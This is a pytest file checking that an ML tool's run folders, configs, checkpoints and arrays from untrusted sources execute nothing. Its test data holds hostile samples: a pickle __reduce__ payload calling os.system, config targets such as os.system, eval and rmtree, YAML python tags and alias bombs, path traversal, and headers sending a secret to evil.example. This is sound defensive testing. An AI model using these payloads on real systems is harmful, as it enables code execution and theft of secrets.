"""A run folder may come from anybody: whatever its files say, opening it runs none of it, and says why."""

import copy
import hashlib
import io
import json
import os
import pickle
import shutil
import zipfile
from pathlib import Path

import numpy as np
import pytest
import torch
import yaml

from gcl.cli import main
from gcl.config.compose import Overrides, catalog_of, load_config, save_config
from gcl.data.tables.download import Downloads
from gcl.errors import ConfigError
from gcl.files.arrays import ArrayCache
from gcl.lit.checkpoint import read_checkpoint
from gcl.run.folder import RunFolder, of_run
from gcl.run.retention import Retention


@pytest.fixture(scope="session")
def plain(tmp_path_factory):
    """The content of a config that gcl wrote."""
    path = tmp_path_factory.mktemp("plain") / "config.yaml"
    save_config(Overrides([]).config(), path)
    return yaml.safe_load(path.read_text())


class Runs:
    """What runs a command when it is unpickled."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self.marker}",)


TOUCH = "touch ran"


def put(content, key, value):
    *above, last = key.split(".")
    for name in above:
        if not isinstance(content.get(name), dict):
            content[name] = {}
        content = content[name]
    content[last] = value


CALL = {"_target_": "os.system", "command": TOUCH}
SET = [
    ("loss.score_to_weight", CALL),
    ("loss.score_to_weight", {"_target_": "gcl.loss.weight.linear", "_partial_": True, "low": CALL}),
    ("loss.score_to_weight", {"_target_": "gcl.loss.weight.piecewise", "points": [[1, 1], [2, [CALL]]]}),
    ("loss.score_to_weight", {"_target_": "gcl.loss.weight.linear", "_args_": [CALL]}),
    ("loss.score_to_weight", {"_target_": "gcl.loss.weight.linear", "_partial_": CALL}),
    ("loss.score_to_weight", {"_target_": ["os.system"]}),
    ("loss.score_to_weight", {"_target_": "gcl.loss.weight._inside"}),
    ("loss.score_to_weight", {"_target_": "gcl.loss.weight.torch.hub.load", "_partial_": True}),
    ("loss.score_to_weight", {"_target_": "builtins.eval", "_partial_": True}),
    ("loss.score_to_weight", {"_target_": "subprocess.check_output", "_partial_": True, "args": TOUCH}),
    ("optim.optimizer", {"_target_": "torch.optim.swa_utils.os.system", "_partial_": True}),
    ("optim.schedule", {"_target_": "importlib.import_module", "name": "antigravity"}),
    ("logger", {"_target_": "pathlib.Path.write_text"}),
    ("callbacks.mine", {"_target_": "shutil.rmtree", "path": "victim"}),
    ("callbacks.mine", {"_target_": "lightning.pytorch.callbacks.LambdaCallback", "on_fit_start": CALL}),
    ("trainer.strategy", {"_target_": "os.remove", "path": "victim"}),
    ("trainer.options", {"plugins": [CALL]}),
    ("optim.rules", {"x": CALL}),
    ("data.mix", {"x": CALL}),
    ("hydra", {"run": {"dir": "victim"}}),
    ("data.generator", "os:system"),
    ("data.generator", "gcl.data.prepare.sources:shutil"),
    ("data.generator", "gcl.data.importers.marqtune:open_table"),
    ("data.generator", "gcl.data.demo.catalog:_write_table"),
    ("data.catalogs", {"left": {"generator": "os:system"}}),
    ("data.products", "https://evil.example/${oc.env:HOME}.csv"),
    ("data.root", "${oc.env:HOME}"),
    ("seed", "${oc.decode:1}"),
    ("train.epochs", "${oc.create:{a: 1}}"),
    ("data.name", "../../victim"),
    ("data.name", ".ssh"),
    ("data.tasks", {"../../victim": {"queries": "q.csv"}}),
    ("evaluate.sets", ["../../../tmp/evil"]),
    ("evaluate.sets", ["demo data.generator=os:system"]),
    ("evaluate.retention", {"x": {"catalog": "../../evil"}}),
]


def folder_of(content, path):
    path.mkdir(exist_ok=True)
    (path / "config.yaml").write_text(yaml.safe_dump(content))
    return path


@pytest.mark.parametrize("key, value", SET, ids=lambda value: str(value)[:60])
def test_a_config_that_names_a_program_or_a_reference_is_refused(tmp_path, monkeypatch, plain, key, value):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "victim").mkdir()
    content = copy.deepcopy(plain)
    put(content, key, value)
    folder_of(content, tmp_path / "run")
    with pytest.raises(ConfigError) as refused:
        RunFolder(tmp_path / "run").read_config()
    assert "config.yaml: " in str(refused.value) and "\n" not in str(refused.value)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["run", "victim"]


LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{new}: &{new} [{', '.join([f'*{old}'] * 9)}]\n" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    "text, said",
    [
        ("seed: !!python/object/apply:os.system ['touch ran']\n", "this is not YAML"),
        ("seed: !!python/name:os.system\n", "this is not YAML"),
        ("seed: !!python/object:os.system {}\n", "this is not YAML"),
        (LAUGHS, "anchors and aliases are not read"),
        ("a: &a [*a]\n", "anchors and aliases are not read"),
        ("seed: " + "[" * 100_000, "config.yaml"),
        ("{a: " * 60 + "1" + "}" * 60, "nested"),
        ("seed: 1\n" + "# padding\n" * 500_000, "more than the 4,000,000"),
        ("- 1\n", "expected a mapping"),
        ("\udcff\udcfe", "not the config of a run"),
        ("seed: 1\nseed: 2\n", "duplicate key"),
    ],
    ids=lambda value: value[:24],
)
def test_a_file_that_is_no_plain_config_is_refused(tmp_path, monkeypatch, text, said):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "config.yaml").write_bytes(text.encode("utf-8", "surrogateescape"))
    with pytest.raises(ConfigError, match=said):
        load_config(tmp_path / "config.yaml")
    assert not (tmp_path / "ran").exists()


def test_a_catalog_s_yaml_that_a_run_names_is_no_program_either(tmp_path, monkeypatch, plain):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "evil.yaml").write_text("name: evil\ngenerator: os:system\n")
    content = copy.deepcopy(plain)
    put(content, "evaluate.retention", {"x": {"catalog": str(tmp_path / "evil.yaml")}})
    folder_of(content, tmp_path / "run")
    with pytest.raises(ConfigError, match="is not a generator of gcl"):
        RunFolder(tmp_path / "run").read_config()


@pytest.mark.parametrize(
    "words",
    [
        ["evaluate", "run={run}"],
        ["evaluate", "models=[run:{run}]"],
        ["evaluate", "models=[tiny,run:{run}]"],
        ["search", "run={run}", "red"],
        ["export", "run={run}", "out={run}/x"],
        ["sweep-weights", "run={run}"],
    ],
    ids=lambda words: " ".join(words)[:30],
)
def test_no_command_that_opens_a_run_runs_it(finished, tmp_path, monkeypatch, capsys, words):
    monkeypatch.chdir(tmp_path)
    run = Path(shutil.copytree(finished.path, tmp_path / "run"))
    content = yaml.safe_load((run / "config.yaml").read_text())
    content["loss"]["score_to_weight"] = {"_target_": "os.mkdir", "path": "ran"}
    content["data"]["generator"] = "os:system"
    (run / "config.yaml").write_text(yaml.safe_dump(content))
    with pytest.raises(SystemExit) as stopped:
        main([word.format(run=run) for word in words])
    said = capsys.readouterr().err
    assert stopped.value.code == 2 and "'os.mkdir', which is not an object that gcl builds there" in said
    assert "trust=[os]" in said and not (tmp_path / "ran").exists()


def test_the_command_line_may_trust_a_package_and_measuring_still_builds_nothing(finished, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    run = Path(shutil.copytree(finished.path, tmp_path / "run"))
    (tmp_path / "my_package.py").write_text("raise RuntimeError('this ran')\n")
    monkeypatch.syspath_prepend(tmp_path)
    content = yaml.safe_load((run / "config.yaml").read_text())
    content["loss"]["score_to_weight"] = {"_target_": "my_package.weigh"}
    content["callbacks"] = {"mine": {"_target_": "my_package.Mine"}}
    content["trust"] = ["my_package"]  # a folder does not trust itself
    (run / "config.yaml").write_text(yaml.safe_dump(content))
    with pytest.raises(ConfigError, match=r"trust=\[my_package\]"):
        RunFolder(run).read_config()
    with pytest.raises(ConfigError, match=r"trust=\[my_package\]"):
        RunFolder(run, ("my", "my_package.other")).read_config()
    with pytest.raises(ConfigError, match="has no 'weigh'"):  # checked without importing it
        RunFolder(run, ("my_package",)).read_config()
    (tmp_path / "my_package.py").write_text("raise RuntimeError('this ran')\ndef weigh(): ...\nclass Mine: ...\n")
    main(["evaluate", f"run={run}", "trust=[my_package]", f"out={tmp_path / 'out'}"])
    assert json.loads((tmp_path / "out/metrics.json").read_text()) == json.loads(finished.metrics.read_text())


def test_every_config_of_gcl_s_own_comes_back(tmp_path):
    from gcl.config.folder import choices_of

    for group in ("loss", "logger", "trainer", "data"):
        for choice in choices_of(group):
            save_config(Overrides([f"{group}={choice}"]).config(), tmp_path / "config.yaml")
            load_config(tmp_path / "config.yaml")


def test_a_run_sends_nothing_of_the_environment(tmp_path, plain, monkeypatch):
    monkeypatch.setenv("SHOP_KEY", "a secret")
    content = copy.deepcopy(plain)
    put(content, "data.download.headers", {"Authorization": "Bearer $SHOP_KEY"})
    put(content, "data.download.hosts", ["evil.example"])
    put(content, "data.download.private", True)
    folder_of(content, tmp_path / "run")
    download = RunFolder(tmp_path / "run").read_config().data.download
    assert (download.headers, download.hosts, download.private) == ({}, [], False)
    Downloads(download, tmp_path / "cache")


def test_a_catalog_that_a_run_names_sends_nothing_of_the_environment(tmp_path, plain):
    access = {"headers": {"X-Stolen": "Bearer $SHOP_KEY"}, "hosts": ["evil.example"], "private": True}
    evil, content = tmp_path / "evil.yaml", copy.deepcopy(plain)
    evil.write_text(yaml.safe_dump({"name": "evil", "products": "https://evil.example/p.csv", "download": access}))
    put(content, "evaluate.retention", {"x": {"catalog": str(evil), "untrusted": False}})
    run = RunFolder(folder_of(content, tmp_path / "run"))
    own = Overrides(["evaluate.retention.x.limit=0.1", f"evaluate.retention.y={{catalog: {evil}}}"])
    specs = of_run(run, Overrides([]).config(), own).evaluate.retention
    assert run.read_config().evaluate.retention["x"].untrusted and specs["x"].untrusted
    assert not specs["y"].untrusted  # the command line's own
    theirs, ours = (catalog_of(str(evil), untrusted=specs[name].untrusted).download for name in "xy")
    assert (theirs.headers, theirs.hosts, theirs.private) == ({}, [], False)
    assert ours.headers == access["headers"] and ours.private


def test_a_catalog_that_a_run_names_is_checked_when_it_is_opened(tmp_path, plain, monkeypatch):
    """However deep it names a program, and although it was harmless, or not there, when the run was read."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "payload.py").write_text("open('ran', 'w')\ndef f(): ...\n")
    monkeypatch.syspath_prepend(tmp_path)
    content, evil = copy.deepcopy(plain), tmp_path / "evil.yaml"
    put(content, "evaluate.retention", {"x": {"catalog": str(evil)}})
    run = RunFolder(folder_of(content, tmp_path / "run"))
    config = run.read_config()
    mixed = "name: evil\nmix: {left: 1}\ncatalogs: {left: {generator: %s}}\n"
    for text, says in (
        ("name: evil\ngenerator: payload:f\n", "is not a generator of gcl"),
        (mixed % "payload:f", "data.catalogs.left.generator is 'payload:f', which is not a generator of gcl"),
        ("name: evil\nroot: ${oc.env:HOME}\n", "a reference in it is not followed"),
    ):
        evil.write_text(text)
        for opening in (run.read_config, lambda: Retention(config)):
            with pytest.raises(ConfigError, match=says):
                opening()
    evil.write_text(mixed % "null")
    for opened in (run.read_config(), Overrides([f"evaluate.retention.x={{catalog: {evil}}}"]).config()):
        with pytest.raises(ConfigError, match="evil.yaml is a mix of catalogs"):
            Retention(opened)
    assert not (tmp_path / "ran").exists()


def test_a_checkpoint_that_is_a_program_is_not_run(finished, tmp_path):
    run = RunFolder(Path(shutil.copytree(finished.path, tmp_path / "run")))
    out = io.BytesIO()
    torch.save({"state_dict": Runs(tmp_path / "ran"), "global_step": 6}, out)
    for data in (out.getvalue(), pickle.dumps(Runs(tmp_path / "ran"))):
        run.best.write_bytes(data)
        done = {"size": len(data), "sha256": hashlib.sha256(data).hexdigest(), "step": 6}
        run.best.with_name("best.ckpt.DONE").write_text(json.dumps(done))
        with pytest.raises(Exception, match="(?i)weights.only|unsupported"):
            read_checkpoint(run.best)
        assert not (tmp_path / "ran").exists()


def test_arrays_that_are_programs_are_not_run(tmp_path):
    payload = np.array([Runs(tmp_path / "ran")], dtype=object)
    np.save(tmp_path / "x.npy", payload, allow_pickle=True)
    assert ArrayCache(tmp_path).load("x", 1) is None
    np.savez(tmp_path / "case.npz", payload)
    with zipfile.ZipFile(tmp_path / "case.npz") as archive, pytest.raises(ValueError, match="allow_pickle"):
        np.load(archive.open(archive.namelist()[0]), allow_pickle=False)
    assert not (tmp_path / "ran").exists()


def test_pruning_a_cache_that_a_run_names_removes_nothing_of_others(tmp_path):
    """cache_dir and cache_gb come from the folder."""
    (tmp_path / "thesis.npy").write_bytes(b"x" * 100)
    ArrayCache(tmp_path, limit=1).prune()
    assert (tmp_path / "thesis.npy").exists()
